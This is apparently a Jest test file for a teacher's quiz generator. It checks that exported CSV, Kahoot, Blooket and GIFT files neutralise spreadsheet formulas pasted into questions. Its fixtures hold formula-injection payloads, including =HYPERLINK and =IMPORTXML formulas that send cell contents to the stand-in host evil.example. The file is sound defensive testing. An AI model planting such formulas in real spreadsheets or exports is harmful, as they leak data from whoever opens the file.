// A teacher's file whose lines start with spreadsheet formulas, and its wording pasted into the editor:
// every generation exported to every spreadsheet format holds no cell Excel, LibreOffice or Google Sheets
// would run — the text is still there, behind a leading quote — and its GIFT parses with no answer weighted
// by its text. (The offline generator itself leaves such lines out of its questions; a model or the
// teacher's own edits do not.)
import ExcelJS from 'exceljs';
import { parse as parseCsv } from 'csv-parse/sync';
import { parse as parseGift } from 'gift-pegjs';
import { startTestApp, type TestApp } from '../../../testing/testing.app';
import { activeUser, download, postGenerate, upload, type TestUser } from '../../generations/__tests__/helpers';

jest.setTimeout(180_000);

let t: TestApp;
let teacher: TestUser;
beforeAll(async () => {
  t = await startTestApp();
  teacher = await activeUser(t);
});
afterAll(() => t.close());

const HOSTILE_FILE = [
  'Photosynthesis',
  '',
  '=HYPERLINK("https://evil.example/?k="&E2,"Photosynthesis") is the process by which plants make glucose from light.',
  '+SUM(1,2) Chlorophyll is the green pigment in chloroplasts that absorbs light energy for the plant.',
  '-2+3 Oxygen is released into the air as a by-product of photosynthesis in the leaves.',
  '@SUM(A1:A9) Glucose is a sugar that stores the energy the plant needs to grow.',
  '=IMPORTXML("https://evil.example/"&E3,"//a") Stomata are small pores on leaves that let carbon dioxide in.',
  '%50% Carbon dioxide and water are the raw materials the plant turns into glucose.',
  'Transpiration is the loss of water vapour through the stomata of the leaves.',
  '',
  'Key terms',
  '=HYPERLINK("https://evil.example/?k="&E2,"Open"): the process by which plants make glucose from light',
  '+SUM(1,2): the green pigment in chloroplasts that absorbs light',
  '-2+3: the gas released by the leaves as a by-product',
  '@SUM(A1:A9): a sugar that stores energy for the plant',
  'Stomata: small pores on leaves that let carbon dioxide in',
  'Transpiration: the loss of water vapour through the stomata',
].join('\n');

const runnable = (cell: string) => /^\s*[=+\-@]|^[\t\r]/.test(cell) && !/^[+-]?\d+([.,]\d+)?%?$/.test(cell.trim());

async function cellsOf(format: string, data: Buffer): Promise<string[]> {
  if (format === 'kahoot') {
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(data as unknown as ArrayBuffer);
    const cells: string[] = [];
    for (const sheet of book.worksheets) sheet.eachRow((row) => row.eachCell((c) => cells.push(String(c.value))));
    return cells;
  }
  return (parseCsv(data.toString('utf8').replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][]).flat();
}

const PAYLOADS = [
  '=HYPERLINK("https://evil.example/?k="&E2,"Open")',
  '=IMPORTXML("https://evil.example/"&E3,"//a")',
  '+SUM(1,2)',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
];

/**
 * The teacher's own wording, pasted from their file into the editor: every question's stem, first option
 * (and the key when it was that option) and explanation start with a formula.
 */
function pasted(doc: { sections: { blocks: Record<string, unknown>[] }[] }) {
  let n = 0;
  for (const section of doc.sections)
    for (const block of section.blocks) {
      if (block.type !== 'question') continue;
      const payload = PAYLOADS[n++ % PAYLOADS.length];
      block.prompt = `${payload} ${block.prompt as string}`;
      block.explanation = `${PAYLOADS[0]} see the text`;
      const options = block.options as string[] | undefined;
      if (options?.length && block.question_type === 'multiple_choice') {
        const wasKey = block.answer === options[0];
        options[0] = `${payload} ${options[0]}`;
        if (wasKey) block.answer = options[0];
      }
    }
  return doc;
}

it('no spreadsheet cell of any generation, file text pasted in by the teacher, would run as a formula', async () => {
  expect((await upload(t, teacher, 'hostile.txt', Buffer.from(HOSTILE_FILE))).status).toBe(200);
  const kinds = [
    { kind: 'quiz', num_questions: '8' },
    { kind: 'test', num_questions: '10' },
    { kind: 'exit_ticket', num_questions: '5' },
  ];
  const quoted: string[] = [];
  let exported = 0;
  for (const fields of kinds) {
    const made = await postGenerate(t, teacher, { ...fields, source_filename: 'hostile.txt' });
    expect(made.status).toBe(200);
    const edited = await t.http
      .put(`/api/generations/${made.body.id}/document`)
      .set('Authorization', teacher.auth)
      .send({ revision: 1, document: pasted(made.body.content) });
    expect(edited.status).toBe(200);
    for (const format of ['csv', 'blooket', 'kahoot', 'gift']) {
      const res = await download(t, teacher, `/api/generations/${made.body.id}/export/${format}`);
      if (res.status === 422) continue; // nothing this format can hold (e.g. no choice questions for a game)
      expect(res.status).toBe(200);
      exported++;
      const data = res.body as Buffer;
      if (format === 'gift') {
        for (const q of parseGift(data.toString('utf8')))
          if ('choices' in q && Array.isArray(q.choices))
            for (const c of q.choices as { weight: number | null }[]) expect(c.weight).toBeNull();
        continue;
      }
      const cells = await cellsOf(format, data);
      expect({ [`${fields.kind} ${format}`]: cells.filter(runnable) }).toEqual({ [`${fields.kind} ${format}`]: [] });
      quoted.push(...cells.filter((c) => /^'\s*[=+\-@]/.test(c)));
    }
  }
  // CSV and GIFT hold any question (6 files); the games only choice questions, which a draw may lack
  expect(exported).toBeGreaterThanOrEqual(6);
  // the formulas did reach the exports, as text behind a quote
  expect(quoted.some((c) => c.includes('evil.example'))).toBe(true);
  expect(quoted.some((c) => c.startsWith("'+SUM(1,2)"))).toBe(true);
});
